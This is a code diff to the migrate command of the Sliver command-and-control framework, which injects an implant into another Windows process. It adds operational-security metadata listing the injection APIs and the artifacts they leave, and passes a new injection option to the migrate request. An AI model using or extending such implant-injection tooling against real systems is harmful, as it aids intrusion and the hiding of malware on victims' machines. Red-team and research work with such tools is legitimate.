@@ -23,12 +23,23 @@ import (
 	"fmt"
 	"strings"
 
+	"github.com/bishopfox/sliver/client/command/help"
 	"github.com/bishopfox/sliver/client/console"
+	consts "github.com/bishopfox/sliver/client/constants"
 	"github.com/bishopfox/sliver/protobuf/clientpb"
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
 	"github.com/desertbit/grumble"
 )
 
+func init() {
+	help.RegisterOpsec(consts.MigrateStr, &help.OpsecInfo{
+		Risk:      help.OpsecHigh,
+		Artifacts: []string{"implant shellcode in the target process"},
+		Network:   "new c2 connection from the target process",
+		APIs:      []string{"OpenProcess on another process", "process injection (VirtualAllocEx, WriteProcessMemory, CreateRemoteThread)"},
+	})
+}
+
 // MigrateCmd - Windows only, inject an implant into another process
 func MigrateCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
 	session := con.ActiveTarget.GetSession()
@@ -72,14 +83,20 @@ func MigrateCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
 		encoder = clientpb.ShellcodeEncoder_NONE
 	}
 
+	injection, err := parseInjection(ctx)
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
 	ctrl := make(chan bool)
 	con.SpinUntil(fmt.Sprintf("Migrating into %d ...", pid), ctrl)
 
 	migrate, err := con.Rpc.Migrate(context.Background(), &clientpb.MigrateReq{
-		Pid:     uint32(pid),
-		Config:  config,
-		Request: con.ActiveTarget.Request(ctx),
-		Encoder: encoder,
+		Pid:       uint32(pid),
+		Config:    config,
+		Request:   con.ActiveTarget.Request(ctx),
+		Encoder:   encoder,
+		Injection: injection,
 	})
 	ctrl <- true
 	<-ctrl